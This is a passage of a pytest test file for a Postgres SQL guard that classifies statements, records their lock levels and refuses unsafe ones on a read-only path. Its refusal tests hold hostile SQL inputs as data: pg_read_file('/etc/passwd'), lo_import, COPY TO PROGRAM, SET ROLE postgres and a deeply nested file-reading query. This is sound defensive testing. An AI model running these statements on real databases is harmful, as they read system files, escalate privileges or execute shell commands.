    ("CREATE TABLE t AS SELECT * FROM orders", DDL, "CreateTableAsStmt", ("orders", "t"), "ACCESS SHARE"),
    ("SELECT * INTO t2 FROM orders", DDL, "SelectStmt", ("orders", "t2"), "ACCESS SHARE"),
    ("CREATE MATERIALIZED VIEW mv AS SELECT status, count(*) FROM orders GROUP BY status", DDL,
     "CreateTableAsStmt", ("mv", "orders"), "ACCESS SHARE"),
    ("CREATE VIEW v AS SELECT * FROM orders", DDL, "ViewStmt", ("orders", "v"), "ACCESS SHARE"),
    ("CREATE OR REPLACE VIEW v AS SELECT 1", DDL, "ViewStmt", ("v",), "ACCESS EXCLUSIVE"),
    ("ALTER TABLE orders ADD COLUMN note text", DDL, "AlterTableStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("ALTER TABLE orders VALIDATE CONSTRAINT orders_customer_id_fkey", DDL, "AlterTableStmt", ("orders",),
     "SHARE UPDATE EXCLUSIVE"),
    ("ALTER TABLE orders ADD CONSTRAINT fk FOREIGN KEY (customer_id) REFERENCES customers (id) NOT VALID",
     DDL, "AlterTableStmt", ("customers", "orders"), "SHARE ROW EXCLUSIVE"),
    ("ALTER TABLE orders ALTER COLUMN amount SET STATISTICS 500, ADD COLUMN x int", DDL, "AlterTableStmt",
     ("orders",), "ACCESS EXCLUSIVE"),
    ("ALTER TABLE orders DISABLE TRIGGER ALL", DDL, "AlterTableStmt", ("orders",), "SHARE ROW EXCLUSIVE"),
    ("ALTER TABLE p DETACH PARTITION p1 CONCURRENTLY", DDL, "AlterTableStmt", ("p", "p1"),
     "SHARE UPDATE EXCLUSIVE"),
    ("ALTER TABLE orders RENAME TO purchases", DDL, "RenameStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("ALTER TABLE orders RENAME COLUMN amount TO total", DDL, "RenameStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("ALTER INDEX orders_pkey RENAME TO orders_pk", DDL, "RenameStmt", ("orders_pkey",),
     "SHARE UPDATE EXCLUSIVE"),
    ("ALTER TABLE shop.orders SET SCHEMA archive", DDL, "AlterObjectSchemaStmt", ("shop.orders",),
     "ACCESS EXCLUSIVE"),
    ("DROP TABLE orders, archive.old_orders CASCADE", DDL, "DropStmt", ("archive.old_orders", "orders"),
     "ACCESS EXCLUSIVE"),
    ("DROP INDEX CONCURRENTLY orders_status_idx", DDL, "DropStmt", ("orders_status_idx",),
     "SHARE UPDATE EXCLUSIVE"),
    ("DROP TRIGGER trg ON orders", DDL, "DropStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("DROP FUNCTION f(int)", DDL, "DropStmt", (), "ACCESS EXCLUSIVE"),
    ("TRUNCATE orders, customers RESTART IDENTITY", DDL, "TruncateStmt", ("customers", "orders"),
     "ACCESS EXCLUSIVE"),
    ("CREATE INDEX orders_status_idx ON orders (status)", DDL, "IndexStmt", ("orders",), "SHARE"),
    ("CREATE UNIQUE INDEX CONCURRENTLY ON orders (id) WHERE status = 'paid'", DDL, "IndexStmt", ("orders",),
     "SHARE UPDATE EXCLUSIVE"),
    ("CREATE SEQUENCE order_no", DDL, "CreateSeqStmt", ("order_no",), None),
    ("CREATE SCHEMA archive", DDL, "CreateSchemaStmt", (), None),
    ("CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", DDL,
     "CreateFunctionStmt", (), None),
    ("CREATE TYPE mood AS ENUM ('sad', 'ok')", DDL, "CreateEnumStmt", (), None),
    ("CREATE EXTENSION IF NOT EXISTS pg_trgm", DDL, "CreateExtensionStmt", (), None),
    ("CREATE TRIGGER trg BEFORE UPDATE ON orders FOR EACH ROW EXECUTE FUNCTION touch()", DDL,
     "CreateTrigStmt", ("orders",), "SHARE ROW EXCLUSIVE"),
    ("COMMENT ON TABLE orders IS 'one row per order'", DDL, "CommentStmt", ("orders",),
     "SHARE UPDATE EXCLUSIVE"),
    ("COMMENT ON COLUMN shop.orders.amount IS 'in euros'", DDL, "CommentStmt", ("shop.orders",),
     "SHARE UPDATE EXCLUSIVE"),
    ("VACUUM (VERBOSE) orders", ADMIN, "VacuumStmt", ("orders",), "SHARE UPDATE EXCLUSIVE"),
    ("VACUUM FULL orders", ADMIN, "VacuumStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("ANALYZE orders", ADMIN, "VacuumStmt", ("orders",), "SHARE UPDATE EXCLUSIVE"),
    ("REINDEX TABLE orders", ADMIN, "ReindexStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("REINDEX (CONCURRENTLY) INDEX orders_pkey", ADMIN, "ReindexStmt", ("orders_pkey",),
     "SHARE UPDATE EXCLUSIVE"),
    ("CLUSTER orders USING orders_pkey", ADMIN, "ClusterStmt", ("orders",), "ACCESS EXCLUSIVE"),
    ("GRANT SELECT ON orders TO analyst", ADMIN, "GrantStmt", ("orders",), None),
    ("REVOKE ALL ON orders FROM PUBLIC", ADMIN, "GrantStmt", ("orders",), None),
    ("GRANT analyst TO alice", ADMIN, "GrantRoleStmt", (), None),
    ("CREATE ROLE analyst LOGIN", ADMIN, "CreateRoleStmt", (), None),
    ("CREATE USER bob", ADMIN, "CreateRoleStmt", (), None),
    ("ALTER ROLE analyst NOLOGIN", ADMIN, "AlterRoleStmt", (), None),
    ("DROP ROLE analyst", ADMIN, "DropRoleStmt", (), None),
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", ADMIN, "RefreshMatViewStmt", ("mv",), "EXCLUSIVE"),
    ("REFRESH MATERIALIZED VIEW mv", ADMIN, "RefreshMatViewStmt", ("mv",), "ACCESS EXCLUSIVE"),
    ("DO $$ BEGIN RAISE NOTICE 'hi'; END $$", ADMIN, "DoStmt", (), None),
    ("CALL archive_orders(30)", ADMIN, "CallStmt", (), None),
]


@pytest.mark.parametrize(("sql", "kind", "statement_type", "tables", "lock"),
                         [pytest.param(*case, id=_short(case[0])) for case in CHANGES])
def test_change_is_classified_with_tables_and_lock(
    guard: SqlGuard, sql: str, kind: StatementKind, statement_type: str, tables: tuple[str, ...],
    lock: str | None,
) -> None:
    classification = guard.check_change(sql)
    assert (classification.kind, classification.statement_type, classification.tables, classification.lock) \
        == (kind, statement_type, tables, lock)
    assert classification.reason is None


def test_read_classification_fields(guard: SqlGuard) -> None:
    sql = ("  WITH recent AS (SELECT * FROM \"Order Items\") "
           "SELECT pg_catalog.lower(c.name), count(*) FROM recent r JOIN public.customers c ON true "
           "JOIN café f ON true GROUP BY 1 ;\n")
    assert guard.classify(sql) == Classification(
        kind=READ, statement_type="SelectStmt", sql=sql.strip()[:-1].rstrip(),
        tables=('"Order Items"', "café", "public.customers"), functions=("count", "lower"),
        calls=(FunctionCall("pg_catalog", "lower", 1), FunctionCall(None, "name", 1, "row"),
               FunctionCall(None, "count", 0)),
    )


@pytest.mark.parametrize(("sql", "stored"), [
    ("SELECT 1;", "SELECT 1"),
    ("\n  SELECT 1 ;  \n", "SELECT 1"),
    ("SELECT ';'", "SELECT ';'"),
    ("SELECT 1 -- note", "SELECT 1 -- note"),
])
def test_sql_is_the_statement_as_given(guard: SqlGuard, sql: str, stored: str) -> None:
    assert guard.classify(sql).sql == stored


def test_check_read_explains_refusals(guard: SqlGuard) -> None:
    cases = {
        "UPDATE orders SET amount = 0": "This statement changes data (UPDATE); the read-only path refuses it.",
        "DROP TABLE orders": "This statement changes the schema (DROP TABLE); the read-only path refuses it.",
        "VACUUM orders": "This is an administrative statement (VACUUM); the read-only path refuses it.",
        "EXPLAIN ANALYZE DELETE FROM orders":
            "This statement changes data (EXPLAIN ANALYZE, which runs the DELETE); the read-only path refuses it.",
    }
    for sql, message in cases.items():
        with pytest.raises(GuardError) as refused:
            guard.check_read(sql)
        assert refused.value.user_message == message


def test_forbidden_reasons_name_the_problem(guard: SqlGuard) -> None:
    reasons = {
        "SELECT * FROM t WHERE pg_read_file('/etc/passwd') <> ''": "pg_read_file()",
        "SELECT lo_import('/x'), pg_terminate_backend(1)": "lo_import() and pg_terminate_backend()",
        "SET ROLE postgres": "SET ROLE",
        "COMMIT": "Transaction control (COMMIT)",
        "COPY t TO PROGRAM 'x'": "PROGRAM",
        "SET LOCAL statement_timeout = 0": "SET LOCAL statement_timeout",
    }
    for sql, fragment in reasons.items():
        reason = guard.classify(sql).reason
        assert reason is not None and fragment in reason, reason
        with pytest.raises(GuardError) as refused:
            guard.check_read(sql)
        assert refused.value.user_message == reason


def test_check_change_points_reads_to_the_query_tool(guard: SqlGuard) -> None:
    with pytest.raises(GuardError, match="use the query tool"):
        guard.check_change("SELECT * FROM orders")


def test_several_statements_and_empty_input_are_explained(guard: SqlGuard) -> None:
    with pytest.raises(GuardError, match="several statements in one string are refused; send one at a time"):
        guard.classify("SELECT 1; SELECT 2")
    with pytest.raises(GuardError, match="no SQL statement"):
        guard.classify("  -- nothing here\n")


def test_parse_error_carries_postgres_message_and_position(guard: SqlGuard) -> None:
    with pytest.raises(GuardError) as refused:
        guard.classify("SELECT id\nFROM orders WHER id = 1")
    message = refused.value.user_message
    assert 'syntax error at or near "id"' in message
    assert "character 28, line 2, column 18" in message
    with pytest.raises(GuardError, match="syntax error at end of input"):
        guard.check_read("SELECT * FROM")


def test_allowed_functions_policy_lifts_only_those_names() -> None:
    lenient = SqlGuard(allowed_functions=["nextval", "PG_CATALOG.set_config"])
    assert lenient.check_change("INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))").kind is WRITE
    assert lenient.check_read("SELECT set_config('application_name', 'x', true)").kind is READ
    assert lenient.classify("SELECT lo_import('/etc/passwd')").kind is FORBIDDEN
    assert SqlGuard().classify("SELECT nextval('orders_id_seq')").kind is FORBIDDEN


def test_sequences_may_advance_only_in_approved_changes() -> None:
    guard = SqlGuard()
    assert guard.check_change("INSERT INTO orders (id) VALUES (nextval('orders_id_seq'))").kind is WRITE
    assert guard.check_change("ALTER TABLE t ALTER id SET DEFAULT nextval('s')").kind is DDL
    assert guard.classify("SELECT * FROM orders WHERE id = nextval('s')").kind is FORBIDDEN
    assert guard.classify("UPDATE t SET x = pg_read_file('/etc/passwd')").kind is FORBIDDEN


def test_deeply_nested_queries_are_walked(guard: SqlGuard) -> None:
    sql = "SELECT pg_read_file('/etc/passwd')"
    for _ in range(800):
        sql = f"SELECT * FROM ({sql}) s"
    assert guard.classify(sql).kind is FORBIDDEN


@pytest.mark.parametrize(("sql", "outside"), [
    ("VACUUM orders", True),
    ("ANALYZE orders", False),
    ("CREATE INDEX CONCURRENTLY ON orders (status)", True),
    ("CREATE INDEX ON orders (status)", False),
    ("DROP INDEX CONCURRENTLY orders_status_idx", True),
    ("REINDEX (CONCURRENTLY) TABLE orders", True),
    ("UPDATE orders SET amount = 0", False),
])
def test_must_run_outside_transaction(guard: SqlGuard, sql: str, outside: bool) -> None:
    assert must_run_outside_transaction(guard.classify(sql)) is outside


def test_guard_module_imports_only_pglast_stdlib_and_errors() -> None:
    tree = pyast.parse(Path(sqlguard.__file__).read_text(encoding="utf-8"))
    imported = {alias.name.split(".")[0] for node in pyast.walk(tree) if isinstance(node, pyast.Import)
                for alias in node.names}
    imported |= {node.module or "" for node in pyast.walk(tree) if isinstance(node, pyast.ImportFrom)}
    allowed = {"__future__", "enum", "re", "collections.abc", "contextvars", "dataclasses", "fnmatch", "typing",
               "pglast", "pglast.keywords", "pglast.parser", "core.errors"}
    assert imported <= allowed, imported - allowed


# --- The allowed side is real SQL: every legitimate read runs on Postgres, in a read-only transaction. ---

# pg_trgm lives in public: its functions (and the functions behind its operators) are allowed as an operator
# would allow an extension's functions.
TRGM_FUNCTIONS = ["public.similarity", "public.word_similarity", "public.show_trgm", "public.similarity_op",
                  "public.similarity_dist", "public.word_similarity_commutator_op",
                  "public.word_similarity_op"]


@pytest.fixture(scope="module")
async def read_dsn(pg_admin_dsn: str) -> AsyncIterator[str]:
    async with throwaway_database(pg_admin_dsn, prefix="pgbot_sqlguard") as dsn:
        conn = await asyncpg.connect(dsn)
        try:
            await conn.execute(_SCHEMA)
        finally:
            await conn.close()
        yield dsn


@pytest.fixture(scope="module")
async def read_db(read_dsn: str) -> AsyncIterator[asyncpg.Connection]:
    conn = await asyncpg.connect(read_dsn)
    try:
        yield conn
    finally:
        await conn.close()


@pytest.fixture(scope="module")
async def read_path(read_dsn: str) -> AsyncIterator[PgDatabase]:
    db = PgDatabase("reads", DatabaseSettings(dsn=read_dsn, max_cell_chars=40,  # type: ignore[arg-type]
                                              allowed_functions=TRGM_FUNCTIONS))
    try:
        yield db
    finally:
        await db.aclose()


@pytest.mark.parametrize("sql", [pytest.param(s, id=_short(s)) for s in READS])
async def test_legitimate_read_runs_on_postgres(read_db: asyncpg.Connection, sql: str) -> None:
    classification = SqlGuard().check_read(sql)
    async with read_db.transaction(readonly=True):
        await read_db.execute("SET LOCAL statement_timeout = '10s'")
        if classification.statement_type == "CopyStmt":
            status = await read_db.execute(classification.sql)
            assert status.startswith("COPY")
        else:
            rows = await read_db.fetch(classification.sql)
            assert isinstance(rows, list)


@pytest.mark.parametrize("sql", [pytest.param(s, id=_short(s)) for s in READS])
async def test_legitimate_read_passes_pgbots_whole_read_path(read_path: PgDatabase, sql: str) -> None:
    """The same corpus through PgDatabase.fetch: the catalog's function check, the cut of wide cells in the
    database (same columns, same row count) and the identity check after the statement."""
    checked = SqlGuard().check_read(sql)
    result = await read_path.fetch(checked, role=None)
    if checked.statement_type == "SelectStmt":
        conn = await asyncpg.connect(read_path.settings.dsn.get_secret_value())
        try:
            async with conn.transaction(readonly=True):
                plain = await conn.prepare(checked.sql)
                assert result.columns == tuple(a.name for a in plain.get_attributes())
                if not re.search(r"pg_stat_activity|pg_locks|TABLESAMPLE|random", sql):  # not the same twice
                    assert len(result.rows) == min(len(await plain.fetch()), read_path.limits.max_rows)
        finally:
            await conn.close()
        assert all(len(cell) <= 40 for row in result.rows for cell in row if isinstance(cell, str))


async def test_wide_cells_are_cut_by_the_database_duplicate_names_and_types_kept(read_path: PgDatabase) -> None:
    checked = SqlGuard().check_read("SELECT repeat('x', 100000) AS a, 1 AS a, now()::date AS d, "
                                    "ARRAY[1, 2] AS arr, decode('abcd', 'hex') AS b, NULL::text AS a -- end")
    result = await read_path.fetch(checked, role=None)
    assert result.columns == ("a", "a", "d", "arr", "b", "a")
    (text, one, day, arr, raw, null), = result.rows
    assert isinstance(text, CutText) and len(text) == 40 and text.full_length == 100000
    assert to_cell(text, max_chars=40).endswith("… (100000 chars)")
    assert one == 1 and isinstance(day, dt.date) and arr == "{1,2}" and null is None
    assert isinstance(raw, CutText) and raw == "\\xabcd" and raw.full_length == 2


@pytest.mark.parametrize(("sql", "refused"), [
    ("SELECT similarity('a', 'b')", "public.similarity"),
    ("SELECT 'a' % 'b'", "Operator % is not allowed on the read path: it runs public.similarity_op"),
    ("SELECT ts_rewrite('a'::tsquery, 'SELECT 1')", "VOLATILE"),
    ("SELECT table_to_xml('orders', true, false, '')", "runs a query of its own"),
    ("SELECT (1).pg_terminate_backend", "VOLATILE"),
])
async def test_catalog_check_refuses_what_the_config_does_not_allow(read_dsn: str, sql: str, refused: str) -> None:
    """Without allowed_functions an extension function is refused; pg_catalog's unsafe ones always are
    (here past the guard's own refusals, which a config could lift by name)."""
    db = PgDatabase("reads", DatabaseSettings(dsn=read_dsn))  # type: ignore[arg-type]
    checked = SqlGuard(allowed_functions=["ts_rewrite", "table_to_xml", "pg_terminate_backend"]).check_read(sql)
    try:
        with pytest.raises(GuardError, match=refused):
            await db.fetch(checked, role=None)
    finally:
        await db.aclose()


def test_allowed_functions_config_forms() -> None:
    allowed = AllowedFunctions(["public.similarity", "postgis.*", "nextval", "Public.MixedCase"])
    assert allowed.allows("public", "similarity") and not allowed.allows("public", "exec_sql")
    assert allowed.allows("postgis", "st_distance") and allowed.allows("pg_catalog", "nextval")
    assert not allowed.allows("public", "nextval") and allowed.allows("public", "mixedcase")
    with pytest.raises(ValueError, match=r"schema\.name"):
        DatabaseSettings(dsn="postgresql://x@h/db", allowed_functions=["a.b.c"])  # type: ignore[arg-type]
